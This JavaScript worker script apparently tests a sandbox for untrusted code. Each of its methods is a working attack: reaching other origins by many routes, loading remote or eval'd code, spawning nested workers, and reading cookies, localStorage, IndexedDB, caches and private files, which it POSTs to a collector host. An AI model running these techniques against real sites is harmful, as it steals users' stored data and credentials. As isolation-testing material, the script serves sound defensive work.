// What a stranger's JavaScript may try in a worker: each method is one attack.
//
// This is a classic worker's whole text. It says by a message when an attack begins and
// what it read; the collector is told as well.
const GIVEN = {}

const ask = (at) => `fetch('${at}').catch(() => 0); try { importScripts('${at}x.js') } catch {}`
const blob = (text) => URL.createObjectURL(new Blob([text], {type: "text/javascript"}))
const done = (asked) => new Promise((resolve, reject) => {
  asked.onsuccess = () => resolve(asked.result)
  asked.onerror = () => reject(asked.error)
})

/** Start a worker that keeps what it fails at to itself. */
function start(address, options) {
  const there = new Worker(address, options)
  there.onerror = (event) => event.preventDefault()
  return there
}

/** A global by its descriptor, on the scope or on what it inherits from. */
function recovered(name) {
  for (let place = self; place; place = Object.getPrototypeOf(place)) {
    const found = Object.getOwnPropertyDescriptor(place, name)
    if (found) return found.get ? found.get.call(self) : found.value
  }
}

const ATTACKS = {
  // to another origin
  async fetch(at) {
    await fetch(at)
  },
  async fetch_without_cors(at) {
    await fetch(at, {mode: "no-cors", method: "POST", body: "x"})
  },
  async fetch_kept_alive(at) {
    await fetch(at, {keepalive: true, method: "POST", body: "x"})
  },
  async fetch_of_the_prototype(at) {
    await recovered("fetch").call(self, at)
  },
  async xhr(at) {
    const asked = new XMLHttpRequest()
    asked.open("GET", at)
    asked.send()
  },
  async xhr_synchronous(at) {
    const asked = new XMLHttpRequest()
    asked.open("GET", at, false)
    asked.send()
  },
  async web_socket(at) {
    new WebSocket(at.replace("http", "ws"))
  },
  async web_socket_stream(at) {
    await new WebSocketStream(at.replace("http", "ws")).opened
  },
  async event_source(at) {
    new EventSource(at + "x.events")
  },
  async beacon(at) {
    navigator.sendBeacon(at, "x")
  },
  async web_transport() {
    await new WebTransport(`https://127.0.0.1:${GIVEN.ports.free_web_transport}/`).ready
  },
  async peer_connection() {
    const urls = `stun:127.0.0.1:${GIVEN.ports.free_peer_connection}`
    const there = new RTCPeerConnection({iceServers: [{urls}]})
    there.createDataChannel("x")
    await there.setLocalDescription(await there.createOffer())
  },
  async font(at) {
    const face = new FontFace("stranger", `url(${at}x.woff2)`)
    self.fonts.add(face)
    await face.load()
  },
  async canvas_filter(at) {
    const context = new OffscreenCanvas(9, 9).getContext("2d")
    context.filter = `url(${at}x.svg#a)`
    context.fillRect(0, 0, 9, 9)
  },
  async image(at) {
    new Image().src = at + "x.png"
  },
  async notification_icon(at) {
    new Notification("x", {icon: at + "x.png"})
  },
  async cache_add(at) {
    await (await caches.open("cache_add")).add(at)
  },
  async navigate(at) {
    self.location.href = at
  },
  async open_another_window(at) {
    open(at)
  },
  // code from elsewhere
  async import_scripts(at) {
    importScripts(at + "x.js")
  },
  async import_scripts_of_a_blob(at) {
    importScripts(blob(`fetch('${at}'); importScripts('${at}x.js')`))
  },
  async dynamic_import(at) {
    await import(at + "x.js")
  },
  async dynamic_import_of_a_blob(at) {
    await import(blob(`import '${at}x.js'`))
  },
  async dynamic_import_of_data(at) {
    await import(`data:text/javascript,import '${at}x.js'`)
  },
  async text_of_eval(at) {
    self.eval(`fetch('${at}')`)
  },
  async text_of_function(at) {
    new Function(`return fetch('${at}')`)()
  },
  async text_of_a_timer(at) {
    setTimeout(`fetch('${at}')`)
  },
  async import_of_the_sites_scripts(at) {
    for (const address of GIVEN.scripts) await import(address).catch(() => 0)
    for (const address of GIVEN.scripts) importScripts(address)
  },
  // workers in the worker
  async classic_blob_worker(at) {
    start(blob(ask(at)))
  },
  async module_blob_worker(at) {
    start(blob(`import '${at}x.js'`), {type: "module"})
  },
  async data_worker(at) {
    start("data:text/javascript," + encodeURIComponent(ask(at)))
  },
  async worker_of_a_worker(at) {
    start(blob(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(ask(at))}])))`))
  },
  async strangers_worker(at) {
    start(at + "x.js")
  },
  async shared_worker(at) {
    new SharedWorker(blob(ask(at)))
  },
  async worker_of_the_sites_own_scripts(at) {
    const live = {runtime: "", files: [], python: ["x.js"], info: {}}
    for (const address of GIVEN.scripts)
      start(address, {type: "module"}).postMessage({start: {root: at, live}})
  },
  async service_worker() {
    await navigator.serviceWorker.register(GIVEN.site + "free_service_worker.js")
  },
  // what the page stores: read
  async read_caches(_, read) {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name)
      for (const request of await cache.keys())
        if (request.url.includes("secret")) read(await (await cache.match(request)).text())
    }
  },
  async read_storage(_, read) {
    read(JSON.stringify(localStorage) + JSON.stringify(sessionStorage))
  },
  async read_cookies(_, read) {
    read(JSON.stringify(await cookieStore.getAll()))
  },
  async read_databases(_, read) {
    for (const {name} of await indexedDB.databases()) {
      read(name)
      const there = await done(indexedDB.open(name))
      for (const store of there.objectStoreNames)
        read(JSON.stringify(await done(there.transaction(store).objectStore(store).getAll())))
    }
  },
  async read_private_files(_, read) {
    const folder = await navigator.storage.getDirectory()
    read(await (await (await folder.getFileHandle("secret")).getFile()).text())
  },
  async read_storage_buckets(_, read) {
    const there = await navigator.storageBuckets.open("secret")
    for (const name of await there.caches.keys())
      for (const each of await (await there.caches.open(name)).matchAll()) read(await each.text())
  },
  async read_the_sites_file(_, read) {
    read(await (await fetch(GIVEN.site + "secret.txt")).text())
  },
  async read_the_neighbours_file(_, read) {
    read(await (await fetch(GIVEN.neighbour + "secret.txt")).text())
  },
  async read_the_pages_address(_, read) {
    read(location.href + JSON.stringify(performance.getEntries()) + self.origin)
  },
  async listen_on_a_channel(_, read) {
    self.page = new BroadcastChannel("page")
    self.page.onmessage = ({data}) => read(String(data))
  },
  // what the page stores: changed
  async write_cache() {
    await (await caches.open("free_write_cache")).put(GIVEN.site + "free", new Response("x"))
  },
  async overwrite_caches() {
    for (const name of await caches.keys())
      await (await caches.open(name)).put(GIVEN.site + "free_overwrite_caches", new Response("x"))
  },
  async write_database() {
    const asked = indexedDB.open("free_write_database")
    asked.onupgradeneeded = () => asked.result.createObjectStore("x")
    await done(asked)
  },
  async write_private_file() {
    const folder = await navigator.storage.getDirectory()
    await folder.getFileHandle("free_write_private_file", {create: true})
  },
  async write_storage_bucket() {
    await navigator.storageBuckets.open("free_write_storage_bucket")
  },
  async write_temporary_file() {
    webkitRequestFileSystemSync(0, 1000).root.getFile("free_write_temporary_file", {create: true})
  },
  async write_storage() {
    localStorage.setItem("free_write_storage", "x")
  },
  async write_cookie() {
    await cookieStore.set("free_write_cookie", "x")
  },
  async speak_on_a_channel() {
    new BroadcastChannel("page").postMessage("free_speak_on_a_channel")
  },
  async hold_a_lock() {
    navigator.locks.request("free_hold_a_lock", () => new Promise(() => {}))
  },
}

// a worker that fell silent is followed by another, which begins with what is left
const begun = ([name]) => Number((GIVEN.begun ?? []).includes(name))
for (const [name, attack] of Object.entries(ATTACKS).sort((a, b) => begun(a) - begun(b))) {
  const at = `${GIVEN.collector}/free_${name}~`
  const told = new Set()
  const read = (text) => {
    if (told.has(text)) return
    told.add(text)
    postMessage([name, String(text).slice(0, 9000)])
    fetch(at, {method: "POST", body: `read: ${text}`}).catch(() => 0)
  }
  postMessage([name, ""])
  attack(at, read).catch(() => 0)
}
